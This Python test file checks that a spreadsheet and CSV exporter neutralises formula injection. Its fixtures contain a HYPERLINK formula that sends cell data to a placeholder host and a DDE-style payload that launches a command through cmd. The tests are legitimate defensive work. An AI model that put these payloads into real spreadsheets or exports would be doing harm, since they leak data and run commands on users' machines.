"""Text people write stays text in the spreadsheets Grogrund exports (OWASP CSV injection):
an outcome, cost or stakeholder named `=HYPERLINK(…)` is shown, never calculated, while the
workbook's own formulas stay formulas (issue 11)."""

from pathlib import Path

import openpyxl
import yaml
from hypothesis import given
from hypothesis import strategies as st

from grogrund.engine import evaluate
from grogrund.engine.cells import FORMULA_STARTS, csv_field
from grogrund.engine.xlsx import write_workbook

EXAMPLES = Path(__file__).resolve().parents[2] / "docs" / "examples"
ATTACK = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'


def test_hostile_names_are_text_cells_and_formulas_still_formulas(tmp_path: Path) -> None:
    model = yaml.safe_load((EXAMPLES / "sroi.yaml").read_text(encoding="utf-8"))
    model["outcomes"][0]["name"] = ATTACK
    model["outcomes"][0]["source"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    model["costs"][0]["name"] = "+" + ATTACK[1:]
    model["stakeholders"]["tenants_association"] = "-2+3"
    path = tmp_path / "m.yaml"
    path.write_text(yaml.safe_dump(model, allow_unicode=True), encoding="utf-8")
    out = write_workbook(path, evaluate(path), tmp_path / "m.xlsx")

    book = openpyxl.load_workbook(out)
    texts = {"inputs": [], "flows": []}
    for sheet, key in (("Inputs", "inputs"), ("Flows", "flows")):
        for row in book[sheet].iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    texts[key].append(cell)
    assert texts["flows"], "the outcome's name is in the Flows sheet"
    for cell in texts["inputs"] + texts["flows"]:
        assert cell.data_type == "s", f"{cell.parent.title}!{cell.coordinate} is a formula"
    # The workbook's own calculation is untouched.
    assert book["Summary"]["B4"].data_type == "f"
    assert any(
        c.data_type == "f" for row in book["Flows"].iter_rows(min_col=4) for c in row if c.value
    )


@given(st.text(min_size=1))
def test_a_csv_field_never_starts_like_a_formula(text: str) -> None:
    assert not str(csv_field(text)).startswith(FORMULA_STARTS)
    assert str(csv_field(text)).endswith(text)


def test_numbers_stay_numbers_in_csv() -> None:
    assert csv_field(-5) == -5
    assert csv_field(12.5) == 12.5
    assert csv_field("Fler i arbete") == "Fler i arbete"
